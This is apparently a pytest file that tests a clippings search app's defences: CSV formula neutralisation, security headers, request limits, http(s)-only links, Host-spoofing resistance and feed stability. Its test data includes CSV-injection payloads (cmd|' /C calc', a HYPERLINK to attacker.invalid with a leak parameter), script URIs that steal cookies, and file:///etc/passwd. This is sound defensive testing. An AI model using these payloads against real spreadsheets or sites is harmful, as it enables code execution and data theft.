"""Hardened output: CSV cells that cannot become formulas, security headers, bounded requests,
links to originals only over http(s), no absolute URL from the Host header, stable feeds."""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
import time
from pathlib import Path
from xml.etree import ElementTree as ET

import pytest
from click.testing import CliRunner

from clippings.cli import main
from indexer import results
from indexer.query import MAX_QUERY_CHARS
from indexer.results import Hit, Marked
from indexer.search import SearchEngine
from indexer.update import update_index
from tests.conftest import FIXTURES
from webui import app as webapp
from webui.app import create_app
from webui.export import CSV_COLUMNS, csv_row

ATOM = "{http://www.w3.org/2005/Atom}"
ADDED = 1577934245  # 2020-01-02T03:04:05Z: when the fixture files "entered the archive"
ADDED_STAMP = "2020-01-02T03:04:05Z"
FORMULA_CHARACTERS = ["=", "+", "-", "@", "\t", "\r"]
UNSAFE_CLIPPINGS = {
    "formula.txt#1": "javascript:alert(document.cookie)",
    "listing.html#1": "data:text/html,<script>alert(1)</script>",
    "listing.html#2": "vbscript:msgbox(1)",
    "listing.html#3": "JaVaScRiPt:alert(2)",
}
SAFE_CLIPPINGS = {
    "listing.html#4": "HTTPS://example.org/safe-item",
    "undated-note.txt#1": "https://example.org/undated-note",
}


def hardening_corpus(target: Path) -> Path:
    """A copy of tests/fixtures/hardening whose files all date from ADDED."""
    corpus = shutil.copytree(FIXTURES / "hardening", target)
    for path in corpus.iterdir():
        os.utime(path, (ADDED, ADDED))
    return corpus


@pytest.fixture(scope="module")
def hardening_index(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("hardening")
    update_index(hardening_corpus(root / "corpus"), root / "index")
    return root / "index"


@pytest.fixture()
def hclient(hardening_index):
    return create_app({"INDEX_DIR": str(hardening_index), "TESTING": True}).test_client()


def csv_rows(text: str) -> dict[str, dict]:
    return {row["id"]: row for row in csv.DictReader(io.StringIO(text))}


def feed_entries(body: bytes) -> dict[str, ET.Element]:
    """The feed's entries by title."""
    root = ET.fromstring(body)
    return {entry.findtext(f"{ATOM}title"): entry for entry in root.iter(f"{ATOM}entry")}


# 1. CSV injection


def a_hit(**values) -> Hit:
    fields = dict(id="a.txt#1", title="Title", date="2011-04-08", source="Wire",
                  url="https://example.org/a", path="a.txt", collection="Digest",
                  entities=["Camp Ashraf"], score=1.5, snippet=Marked("Some text"))  # fmt: skip
    return Hit(**{**fields, **values})


TEXT_CELLS = {  # CSV column: the Hit field it comes from, as a value starting with {}
    "id": ("id", "{}cmd|' /C calc'!A0#1"),
    "title": ("title", '{}HYPERLINK("http://attacker.invalid","x")'),
    "source": ("source", "{}SUM(1+1)"),
    "url": ("url", "{}HYPERLINK(1)"),
    "path": ("path", "{}1+1.txt"),
    "collection": ("collection", "{}1+1"),
    "entities": ("entities", ["{}1+1", "Camp Ashraf"]),
    "excerpt": ("snippet", "{}2+3 said the report"),
}


@pytest.mark.parametrize("column", TEXT_CELLS)
@pytest.mark.parametrize("first", FORMULA_CHARACTERS)
def test_csv_cells_starting_like_a_formula_get_a_quote(column, first):
    field, template = TEXT_CELLS[column]
    value = [v.format(first) for v in template] if isinstance(template, list) else None
    value = value or template.format(first)
    hit = a_hit(**{field: Marked(value) if field == "snippet" else value})
    cell = csv_row(hit)[CSV_COLUMNS.index(column)]
    assert cell[:1] not in FORMULA_CHARACTERS
    assert cell.startswith("'" + first), cell


def test_csv_cells_of_plain_text_are_kept_as_they_are():
    assert csv_row(a_hit()) == [
        "a.txt#1", "Title", "2011-04-08", "", "Wire", "https://example.org/a", "a.txt",
        "Digest", "Camp Ashraf", 1.5, "Some text", "",
    ]  # fmt: skip


def test_csv_export_neutralises_formulas_in_every_cell(hclient):
    text = hclient.get("/export.csv?q=").get_data(as_text=True)
    row = csv_rows(text)["formula.txt#1"]
    title = '=HYPERLINK("http://attacker.invalid/?leak=1","Click for the full report")'
    assert row["title"] == "'" + title
    assert row["source"] == "'@Evening Wire"
    assert row["excerpt"].startswith("'-2+3 was the figure")
    assert row["url"] == "javascript:alert(document.cookie)"  # data, and not formula-like
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [cell for cell in cells if cell[:1] in FORMULA_CHARACTERS]


def test_cli_csv_neutralises_formulas_too(hardening_index):
    result = CliRunner().invoke(main, ["search", "--csv", "--index", str(hardening_index), ""])
    row = csv_rows(result.output)["formula.txt#1"]
    assert row["title"].startswith("'=HYPERLINK(")
    assert row["source"] == "'@Evening Wire"


def test_json_export_keeps_the_text_as_it_is(hclient):
    hits = {h["id"]: h for h in hclient.get("/export.json?q=").get_json()["hits"]}
    assert hits["formula.txt#1"]["title"].startswith("=HYPERLINK(")
    assert hits["formula.txt#1"]["source"] == "@Evening Wire"


# 2. Security headers

PAGES = [
    "/",
    "/?q=camp",
    "/?q=(camp",  # a malformed query: 400 page
    "/clipping/markup.html%231",
    "/clipping/nope.txt%231",  # 404 page
    "/entities",
    "/entity/Camp%20Ashraf",
    "/api/search?q=camp",
    "/api/search?q=(camp",  # 400 JSON
    "/feed.atom?q=camp",
    "/export.csv?q=camp",
    "/export.json?q=camp",
    "/static/style.css",
    "/clipping//markup.html%231",  # a redirect
]


def assert_security_headers(response) -> None:
    policy = dict(
        (directive.split(" ", 1) + [""])[:2]
        for directive in response.headers["Content-Security-Policy"].split("; ")
    )
    assert policy["default-src"] == "'none'"
    assert policy["frame-ancestors"] == "'none'"
    assert policy["base-uri"] == "'none'"
    assert policy["form-action"] == "'self'"
    assert "unsafe" not in response.headers["Content-Security-Policy"]
    assert policy["script-src"] == "'self'"  # only the app's own files, never inline
    assert policy["connect-src"] == "'self'"  # results as you type fetch only from here
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["X-Frame-Options"] == "DENY"
    assert response.headers["Referrer-Policy"] == "same-origin"


@pytest.mark.parametrize("path", PAGES)
def test_every_response_carries_the_security_headers(client, path):
    with client.get(path) as response:
        response.get_data()  # streamed bodies run to the end
        assert response.status_code < 500
        assert_security_headers(response)


def test_an_unavailable_index_page_carries_the_security_headers(tmp_path):
    client = create_app({"INDEX_DIR": str(tmp_path / "none")}).test_client()
    for path in ("/", "/api/search?q=x"):
        response = client.get(path)
        assert response.status_code == 503
        assert_security_headers(response)


TEMPLATES = sorted((Path(__file__).parents[1] / "webui" / "templates").glob("*.html"))


@pytest.mark.parametrize("template", TEMPLATES, ids=lambda path: path.name)
def test_templates_need_no_inline_script_or_style(template):
    text = template.read_text(encoding="utf-8")
    assert not re.search(r"<style|\sstyle=|\son[a-z]+=|javascript:", text, re.I)
    for script in re.findall(r"<script[^>]*>(.*?)</script>", text, re.I | re.S):
        assert not script.strip()  # a script tag only names a file (src=...), no inline code


# 3. Bounded requests


@pytest.mark.parametrize("path", ["/", "/feed.atom", "/export.csv", "/api/search"])
def test_an_overlong_query_is_a_400_with_one_line(client, path):
    response = client.get(path, query_string={"q": "camp " * (MAX_QUERY_CHARS // 5 + 1)})
    assert response.status_code == 400
    message = f"the query is {MAX_QUERY_CHARS + 5:,} characters long: the limit is 1,000"
    if path.startswith("/api/"):
        assert response.get_json() == {"error": message}
    else:
        assert message in response.get_data(as_text=True)


def test_an_address_within_the_limit_is_served(client):
    padding = "x" * (webapp.MAX_QUERY_STRING - 20)
    assert client.get("/api/search", query_string={"q": "camp", "pad": padding}).status_code == 200


@pytest.mark.parametrize("path", ["/", "/clipping/markup.html%231", "/api/search"])
def test_an_overlong_address_is_a_400_with_one_line(client, path):
    padding = "x" * webapp.MAX_QUERY_STRING
    response = client.get(path, query_string={"q": "camp", "pad": padding})
    assert response.status_code == 400
    message = f"the address is too long: at most {webapp.MAX_QUERY_STRING:,} bytes after the ?"
    if path.startswith("/api/"):
        assert response.get_json() == {"error": message}
    else:
        assert message in response.get_data(as_text=True)


@pytest.mark.parametrize("method", ["GET", "POST"])
def test_a_large_request_body_is_413(client, method):
    response = client.open("/api/search?q=camp", method=method, data=b"x" * 2_000_000)
    response.get_data()
    assert response.status_code == 413


# 4. Links to the original only over http(s)


@pytest.mark.parametrize(
    "url, link",
    [
        ("http://example.org/a", "http://example.org/a"),
        ("https://example.org/a?b=1&c=2", "https://example.org/a?b=1&c=2"),
        ("HTTPS://example.org/a", "HTTPS://example.org/a"),
        (" \x01\x1f https://example.org/a", "https://example.org/a"),
        ("ht\ttp\n://example.org/a", "http://example.org/a"),
        ("javascript:alert(document.cookie)", None),
        (" JaVaScRiPt:alert(1)", None),
        ("\x00javascript:alert(1)", None),
        ("java\nscript:alert(1)", None),
        ("data:text/html,<script>alert(1)</script>", None),
        ("vbscript:msgbox(1)", None),
        ("file:///etc/passwd", None),
        ("//evil.example/a", None),
        ("/clipping/a", None),
        ("www.example.org/a", None),
        ("", None),
        (None, None),
    ],
)
def test_only_http_and_https_urls_are_links(url, link):
    assert results.web_link(url) == link
    assert a_hit(url=url).link == link


@pytest.mark.parametrize("clipping_id", UNSAFE_CLIPPINGS)
def test_clipping_page_shows_an_unsafe_url_as_text(hclient, clipping_id):
    page = hclient.get(f"/clipping/{clipping_id.replace('#', '%23')}").get_data(as_text=True)
    assert not re.search(r"href=\"\s*(javascript|data|vbscript):", page, re.I)
    assert 'class="original"' not in page
    url = UNSAFE_CLIPPINGS[clipping_id]
    shown = url.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    assert f'<span class="original-text">{shown}</span>' in page
    assert "<script>" not in page


@pytest.mark.parametrize("clipping_id", SAFE_CLIPPINGS)
def test_clipping_page_links_a_web_original(hclient, clipping_id):
    page = hclient.get(f"/clipping/{clipping_id.replace('#', '%23')}").get_data(as_text=True)
    assert f'<a class="original" href="{SAFE_CLIPPINGS[clipping_id]}"' in page


def test_feed_relates_only_web_originals(hclient):
    body = hclient.get("/feed.atom").get_data()
    related = {
        link.get("href")
        for link in ET.fromstring(body).iter(f"{ATOM}link")
        if link.get("rel") == "related"
    }
    assert related == set(SAFE_CLIPPINGS.values())
    assert not re.search(rb"(javascript|data|vbscript):", body, re.I)


# 5. No absolute URL from the Host header

SPOOFED = {"Host": "evil.example", "X-Forwarded-Host": "evil.example"}


@pytest.mark.parametrize("path", PAGES + ["/static//style.css", "/entities/"])
def test_a_spoofed_host_appears_nowhere(client, path):
    with client.get(path, headers=SPOOFED) as response:
        assert "evil.example" not in response.get_data(as_text=True)
        assert "evil.example" not in response.headers.get("Location", "")


def test_redirects_are_relative(client):
    response = client.get("/clipping//markup.html%231", headers=SPOOFED)
    assert response.status_code == 308
    assert response.headers["Location"] == "/clipping/markup.html%231"


def test_feed_links_are_relative_and_ids_do_not_depend_on_the_host(client):
    body = client.get("/feed.atom?q=refugees", headers=SPOOFED).get_data()
    root = ET.fromstring(body)
    assert root.find(f"{ATOM}link[@rel='self']").get("href") == "/feed.atom?q=refugees"
    assert root.find(f"{ATOM}link[@rel='alternate']").get("href") == "/?q=refugees"
    entry = root.find(f"{ATOM}entry")
    assert entry.find(f"{ATOM}link").get("href") == "/clipping/refugees-body.txt%231"
    assert entry.findtext(f"{ATOM}id").startswith("urn:uuid:")
    assert client.get("/feed.atom?q=refugees").get_data() == body


def test_a_configured_base_url_makes_feed_and_redirects_absolute(search_index):
    config = {"INDEX_DIR": str(search_index), "BASE_URL": "https://clippings.example.org/"}
    client = create_app(config).test_client()
    root = ET.fromstring(client.get("/feed.atom?q=refugees", headers=SPOOFED).get_data())
    assert (
        root.find(f"{ATOM}link[@rel='self']").get("href")
        == "https://clippings.example.org/feed.atom?q=refugees"
    )
    entry = root.find(f"{ATOM}entry")
    assert (
        entry.find(f"{ATOM}link").get("href")
        == "https://clippings.example.org/clipping/refugees-body.txt%231"
    )
    redirect = client.get("/clipping//markup.html%231", headers=SPOOFED)
    assert redirect.headers["Location"] == "https://clippings.example.org/clipping/markup.html%231"


def test_base_url_comes_from_the_environment(search_index, monkeypatch):
    monkeypatch.setenv("CLIPPINGS_BASE_URL", "https://env.example.org")
    app = create_app({"INDEX_DIR": str(search_index)})
    assert app.config["BASE_URL"] == "https://env.example.org"


@pytest.mark.parametrize("base_url", ["evil.example", "javascript:alert(1)", "ftp://x.example"])
def test_a_base_url_that_is_not_http_is_refused(search_index, base_url):
    with pytest.raises(ValueError, match="BASE_URL"):
        create_app({"INDEX_DIR": str(search_index), "BASE_URL": base_url})


def test_serve_takes_a_base_url_option(search_index):
    result = CliRunner().invoke(main, ["serve", "--help"])
    assert "--base-url" in result.output and "CLIPPINGS_BASE_URL" in result.output
    args = ["serve", "--index", str(search_index), "--base-url", "evil.example"]
    refused = CliRunner().invoke(main, args)
    assert refused.exit_code == 2
    assert "BASE_URL must be an http(s) address" in refused.output


# 6. Stable feeds


def test_an_undated_clipping_is_added_when_its_file_was(hardening_index):
    engine = SearchEngine(hardening_index)
    try:
        hits = {hit.id: hit for hit in engine.search("", pagelen=20).hits}
    finally:
        engine.close()
    assert hits["undated-note.txt#1"].added == ADDED_STAMP


def test_feed_gives_an_undated_clipping_the_time_it_was_added(hclient):
    entry = feed_entries(hclient.get("/feed.atom").get_data())["An undated hardening note"]
    assert entry.findtext(f"{ATOM}updated") == ADDED_STAMP
    assert entry.find(f"{ATOM}published") is None


def test_feed_is_the_same_on_every_poll(hclient):
    first = hclient.get("/feed.atom?q=camp").get_data()
    time.sleep(1.1)
    assert hclient.get("/feed.atom?q=camp").get_data() == first


def test_feed_entries_keep_their_time_when_other_clippings_arrive(tmp_path):
    corpus = hardening_corpus(tmp_path / "corpus")
    update_index(corpus, tmp_path / "index")
    client = create_app({"INDEX_DIR": str(tmp_path / "index")}).test_client()
    before = feed_entries(client.get("/feed.atom").get_data())
    time.sleep(1.1)
    (corpus / "later.txt").write_text("A later note\n\nAnother undated note about the camp.\n")
    update_index(corpus, tmp_path / "index")
    after = feed_entries(client.get("/feed.atom").get_data())
    assert "A later note" in after
    for title, entry in before.items():
        assert after[title].findtext(f"{ATOM}updated") == entry.findtext(f"{ATOM}updated")
